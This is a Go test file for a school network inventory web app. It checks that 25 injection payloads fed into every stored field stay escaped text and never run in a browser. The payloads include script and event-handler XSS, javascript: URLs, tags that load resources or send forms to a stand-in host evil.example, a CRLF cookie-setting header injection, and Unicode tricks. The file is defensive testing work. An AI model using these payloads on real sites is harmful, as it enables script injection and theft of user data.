package web

import (
	"fmt"
	"net/http"
	"net/netip"
	"regexp"
	"strings"
	"testing"
	"time"

	"rollcall/inventory"
	"rollcall/inventory/store"
)

// payloads are strings that want to be more than text wherever a page might put
// them: between tags, in an attribute, in an address, in a title, a script or a
// style, a template or a header.
var payloads = []string{
	`<script>pwned(0)</script>`,
	`"><script>pwned(1)</script>`,
	`'><script>pwned(2)</script>`,
	`<img src=x onerror=pwned(3)>`,
	`"><img src=x onerror=pwned(4)>`,
	`" onmouseover="pwned(5)" autofocus onfocus="pwned(5)" x="`,
	`' autofocus onfocus='pwned(6)' x='`,
	`javascript:pwned(7)`,
	` javascript:pwned(8)//`,
	`</title><script>pwned(9)</script>`,
	`</textarea><script>pwned(10)</script>`,
	`<svg/onload=pwned(11)>`,
	`<svg><script>pwned(12)</script></svg>`,
	`<iframe src="javascript:pwned(13)"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned(14)</script>">`,
	`<details open ontoggle=pwned(15)>`,
	`<meta http-equiv="refresh" content="0;url=javascript:pwned(16)">`,
	`<base href="//evil.example/">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>*{background:url(//evil.example/x)}</style>`,
	`<form action=//evil.example/><button autofocus>`,
	`{{.}}{{printf "%s" "pwned"}}` + "${pwned(21)}`",
	"<scr\x00ipt>pwned(22)</scr\x00ipt>\r\nSet-Cookie: pwned=22\r\n\r\n<script>pwned(22)</script>",
	"\u202e\u2066<script>pwned(23)</script>\u2028<!--",
	"\xff\xfe\xc0\xbc<script>pwned(24)</script>\xed\xa0\x80",
}

// evilSwitch is the name of the switch that says payload i of itself.
func evilSwitch(i int) inventory.SwitchID { return inventory.SwitchID(fmt.Sprintf("hy-x%02d", i)) }

// underAttack is a city in which everything that a network or a list can set is
// a payload: each in every field.
func underAttack(t *testing.T) *bench {
	t.Helper()
	b := newBench(t)
	for i := range payloads {
		b.city.Schools[0].Switches = append(b.city.Schools[0].Switches, inventory.Switch{ID: evilSwitch(i), School: "179901",
			Role: inventory.SwitchController, Address: netip.MustParseAddrPort("127.0.0.1:161")})
	}
	if err := b.db.Configure(t.Context(), b.city); err != nil {
		t.Fatal(err)
	}
	b.school1()
	for i, evil := range payloads {
		b.attack(i, evil)
	}
	return b
}

// attack lets the switch of a payload, its neighbours, the lists and a person say it.
func (b *bench) attack(i int, evil string) {
	b.Helper()
	id, device := evilSwitch(i), mac(byte(100+i))
	for _, ago := range []time.Duration{3 * time.Minute, 2 * time.Minute, time.Minute} {
		b.poll(id, now.Add(-ago), func(p *inventory.Poll) {
			p.System = inventory.System{Name: evil, Descr: evil, Location: evil, UptimeSeconds: (10*time.Hour - ago).Seconds()}
			p.Entities = []inventory.Entity{{Index: 1, Class: "chassis", Model: evil, Serial: evil}}
			ports(p, 4, 10)
			p.Interfaces[0].Alias, p.Interfaces[1].Name, p.Interfaces[2].Descr = evil, evil, evil
			p.VLANs = []inventory.VLAN{{VID: 10, Name: evil}}
			p.Neighbors = []inventory.Neighbor{{Protocol: "lldp", LocalIfIndex: 1, SysName: evil, PortID: evil, PortDescr: evil, ChassisID: evil, SysDescr: evil}}
			p.Health = &inventory.Health{Disks: []inventory.Disk{{Name: evil, TotalBytes: 1}}}
			p.Wireless = []inventory.WirelessClient{{MAC: device, SSID: evil, AP: evil}}
			learned(p, device, 1, 10)
			learned(p, mac(byte(150+i)), 2, 10)
			p.ARP = []inventory.ARPRow{{IP: netip.AddrFrom4([4]byte{10, 241, 10, byte(50 + i)}), MAC: device}}
			complete(p, inventory.TableSystem, inventory.TableEntities, inventory.TableNeighbors, inventory.TableARP, inventory.TableWireless, inventory.TableHealth)
		})
	}
	b.list(inventory.ListEntry{School: "179901", MAC: device, Name: evil, Class: evil, Platform: evil, AssetNo: evil, Serial: evil,
		Custodian: evil, Room: evil, MDM: evil, ListedAt: evil, Note: evil, By: evil})
	b.records(inventory.PortRecord{School: "179901", Switch: id, Port: "1/1", Zone: evil, Tagged: evil, Role: evil, Outlet: evil, Note: evil})
	said := func(e inventory.SwitchEvent) inventory.SwitchEvent {
		e.At, e.School, e.Switch, e.Source = now.Add(-time.Minute), "179901", id, "syslog"
		return e
	}
	if _, err := b.db.WriteEvents(b.Context(), now, []inventory.SwitchEvent{said(inventory.SwitchEvent{Kind: inventory.EventOther, Text: evil}),
		said(inventory.SwitchEvent{Kind: inventory.EventConfigChanged, User: evil, Text: evil, Port: "1/1"})}); err != nil {
		b.Fatal(err)
	}
	found := b.finding(inventory.Finding{Kind: inventory.KindUnknownSwitch, School: "179901", Severity: inventory.Warning, Subject: evil + fmt.Sprint(i),
		Switch: id, Port: "1/1", Since: now, Args: map[string]string{"name": evil, "descr": evil, "chassis": evil, "room": evil}})
	if _, err := b.db.SetFinding(b.Context(), inventory.AllSchools(), store.FindingChange{At: now, ID: found.ID, State: inventory.StateAcknowledged, Note: evil, Actor: evil}); err != nil {
		b.Fatal(err)
	}
	if _, err := b.db.AddPerson(b.Context(), inventory.Person{Name: evil, Mail: evil, Role: inventory.RoleCoordinator, Schools: []inventory.SchoolCode{"179901"}},
		store.Event{At: now, Actor: evil}); err != nil {
		b.Fatal(err)
	}
	if err := b.db.SetContact(b.Context(), store.Contact{School: "179901", Name: evil, Mail: fmt.Sprintf("c%d@179901.example", i)}, store.Event{At: now, Actor: evil}); err != nil {
		b.Fatal(err)
	}
}

// TestNoStringRunsInABrowser visits pages that are full of payloads: no script
// runs, nothing is asked for elsewhere, and the content policy has nothing to
// refuse.
func TestNoStringRunsInABrowser(t *testing.T) {
	if len(payloads) != 25 {
		t.Fatalf("%d payloads, want 25", len(payloads))
	}
	b := underAttack(t)
	pages := b.everyPage()
	for i := range payloads {
		pages = append(pages, switchPath("179901", evilSwitch(i)))
		switch i % 4 { // the same template for all: each payload sees one of these
		case 0:
			pages = append(pages, schoolPath("179901")+"/devices/"+mac(byte(100+i)).String())
		case 1:
			pages = append(pages, switchPath("179901", evilSwitch(i))+"/ports/1%2F1")
		case 2:
			pages = append(pages, switchPath("179901", evilSwitch(i))+"/events")
		default:
			pages = append(pages, "/search?q="+mac(byte(100 + i)).String()[6:])
		}
	}
	br := b.browse()
	br.show(screens()[0])
	for _, path := range pages {
		br.open(path)
		if bad := br.misdeeds(); len(bad) > 0 {
			t.Errorf("%s: %q", path, bad)
		}
	}
	for _, policy := range []string{contentPolicy, "default-src *; script-src * 'unsafe-inline'"} { // what is looked for can be seen
		b.handler = http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Security-Policy", policy)
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte("<!doctype html><p>" + payloads[0]))
		})
		br.open("/")
		if bad := br.misdeeds(); len(bad) == 0 {
			t.Errorf("under %q a script in a page goes unseen", policy)
		}
	}
}

// typed is the text in a form's field: it stays what it is, to be sent back.
var typed = regexp.MustCompile(` value="[^"]*"`)

// TestEveryStringStaysText looks through the pages of the city under attack for
// payloads that came through as they are.
func TestEveryStringStaysText(t *testing.T) {
	b := underAttack(t)
	bodies, told := b.sample(3), 0
	for i := range payloads {
		for _, path := range []string{switchPath("179901", evilSwitch(i)), switchPath("179901", evilSwitch(i)) + "/ports/1%2F1",
			schoolPath("179901") + "/devices/" + mac(byte(100+i)).String()} {
			bodies[path] = b.get(path).Body.String()
		}
	}
	for path, body := range bodies {
		looksForMarkup(t, path, typed.ReplaceAllString(body, ""))
		for _, evil := range payloads {
			if strings.ContainsAny(evil, "<>\"'") && strings.Contains(body, evil) {
				t.Errorf("%s has %q as it is", path, evil)
			}
		}
		if strings.Contains(body, "pwned(") {
			told++
		}
	}
	if told < 3*len(payloads) {
		t.Errorf("only %d of %d pages show a payload at all", told, len(bodies))
	}
}
